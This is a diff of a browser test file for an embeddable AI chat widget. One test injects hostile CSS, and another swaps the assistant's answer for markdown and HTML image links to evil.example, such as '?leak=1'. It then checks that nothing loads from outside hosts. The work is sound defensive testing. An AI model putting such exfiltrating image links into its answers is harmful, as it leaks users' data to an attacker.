@@ -4,7 +4,8 @@ import { noBrowser } from '../../support/browser.js';
 import { ChatRig, say, userToken } from './rig.js';
 
 const hostile = `<style>
-  * { all: revert; color: lime !important; transform: rotate(3deg) !important; opacity: 0.9 !important }
+  * { all: revert; color: lime !important }
+  body, body *, carrier-chat { transform: rotate(3deg) !important; opacity: 0.9 !important }
   div, button, iframe, carrier-chat { color: red !important; display: none !important; width: 100% !important; position: static !important }
   html { color-scheme: dark }
 </style>`;
@@ -29,7 +30,7 @@ describe.skipIf(noBrowser)(`the widget${noBrowser ? ` (skipped: ${noBrowser})` :
     const page = await rig.visit(rig.site());
     const chat = await rig.openChat(page);
     await say(chat, 'Hello?');
-    await chat.getByText('Hello, visitor.').waitFor();
+    await chat.locator('.markdown', { hasText: 'Hello, visitor.' }).waitFor();
     // Closed again by its own key, it gives the focus back.
     await chat.getByRole('textbox').press('Escape');
     await page.locator('carrier-chat:not([open])').waitFor({ state: 'attached' });
@@ -110,7 +111,6 @@ describe.skipIf(noBrowser)(`the widget${noBrowser ? ` (skipped: ${noBrowser})` :
     await chat.getByRole('textbox').waitFor();
     const frame = await page.locator('carrier-chat iframe').boundingBox();
     expect(frame?.width).toBe(400);
-    await page.screenshot({ path: '/tmp/widget-desktop.png' });
     await page.setViewportSize({ width: 360, height: 640 });
     expect(await page.locator('carrier-chat iframe').boundingBox()).toEqual({
       x: 0,
@@ -118,7 +118,6 @@ describe.skipIf(noBrowser)(`the widget${noBrowser ? ` (skipped: ${noBrowser})` :
       width: 360,
       height: 640,
     });
-    await page.screenshot({ path: '/tmp/widget-phone.png' });
     await page.context().close();
   });
 
@@ -135,11 +134,11 @@ describe.skipIf(noBrowser)(`the widget${noBrowser ? ` (skipped: ${noBrowser})` :
     const page = await rig.visit(rig.site());
     const chat = await rig.openChat(page);
     await say(chat, 'I am nobody yet');
-    await chat.getByText('Hello, visitor.').waitFor();
+    await chat.locator('.markdown', { hasText: 'Hello, visitor.' }).waitFor();
     await identify(page, alice);
     await chat.getByText('I am nobody yet').waitFor({ state: 'detached' });
     await say(chat, 'The secret of Alice');
-    await chat.getByText('Hello, visitor.').waitFor();
+    await chat.locator('.markdown', { hasText: 'Hello, visitor.' }).waitFor();
     // A load for Alice that comes after she has gone.
     let letGo = () => {};
     const held = new Promise<void>((resolve) => {
@@ -158,14 +157,14 @@ describe.skipIf(noBrowser)(`the widget${noBrowser ? ` (skipped: ${noBrowser})` :
     expect(await chat.getByText(/The secret of Alice|I am nobody yet/).count()).toBe(0);
     await identify(page, bob);
     await say(chat, 'Bob asks');
-    await chat.getByText('Hello, visitor.').waitFor();
+    await chat.locator('.markdown', { hasText: 'Hello, visitor.' }).waitFor();
     expect(await chat.getByText(/The secret of Alice|I am nobody yet/).count()).toBe(0);
     // Her other device; and what somebody else has signed makes nobody her.
     const phone = await rig.visit(rig.site());
     const there = await rig.openChat(phone);
     await there.getByText('Nothing was said here yet').waitFor();
     await identify(phone, alice);
-    await there.getByText('The secret of Alice').waitFor();
+    await there.locator('.typed', { hasText: 'The secret of Alice' }).waitFor();
     await identify(phone, await userToken('alice', { secret: 'some-other-secret-of-thirty-two-chars' }));
     await there.getByText('You could not be signed in here').waitFor();
     expect(await there.getByText('The secret of Alice').count()).toBe(0);
@@ -188,7 +187,7 @@ describe.skipIf(noBrowser)(`the widget${noBrowser ? ` (skipped: ${noBrowser})` :
     const chat = await rig.openChat(await rig.visit(rig.site(), context));
     await chat.getByText('This browser lets the chat keep nothing here').waitFor();
     await say(chat, 'Hello?');
-    await chat.getByText('Hello, visitor.').waitFor();
+    await chat.locator('.markdown', { hasText: 'Hello, visitor.' }).waitFor();
     expect(errors).toEqual([]);
     await context.close();
   });
@@ -197,12 +196,22 @@ describe.skipIf(noBrowser)(`the widget${noBrowser ? ` (skipped: ${noBrowser})` :
     const context = await rig.browser.newContext();
     const asked: string[] = [];
     context.on('request', (request) => asked.push(request.url()));
-    rig.model.answer =
-      '![x](http://evil.example/p?leak=1) ![y][r] <img src="//evil.example/q"> [link](//evil.example/l) the end\n\n[r]: http://evil.example/r';
+    // The hub takes such addresses out of answers; the page shows none by itself if one comes through.
+    const hostile = [
+      ...['![x](http://evil.example/p?leak=1)', '![y][r]', '<img src="//evil.example/q">'],
+      ...['[link](//evil.example/l)', 'the end', '\n\n[r]: http://evil.example/r'],
+    ].join(' ');
+    await context.route('**/webchat/assistant/messages*', async (route) => {
+      if (route.request().method() !== 'GET') return route.continue();
+      const body = await (await route.fetch({ url: route.request().url().replace(rig.hub, rig.url) })).text();
+      await route.fulfill({ body: body.replace('Hello, visitor.', JSON.stringify(hostile).slice(1, -1)) });
+    });
     const chat = await rig.openChat(await rig.visit(rig.site(), context));
     await say(chat, 'Show me');
-    await chat.getByText('the end').waitFor();
-    await chat.getByText('evil.example').first().waitFor();
+    const said = chat.locator('.answer', { hasText: 'the end' });
+    await said.waitFor();
+    expect(await said.textContent()).toContain('evil.example');
+    expect(await chat.locator('.answer img').count()).toBe(0);
     const ours = [rig.site(), rig.hub];
     expect(
       asked.filter((url) => !ours.some((one) => url.startsWith(one)) && !/^(data|blob):/.test(url)),
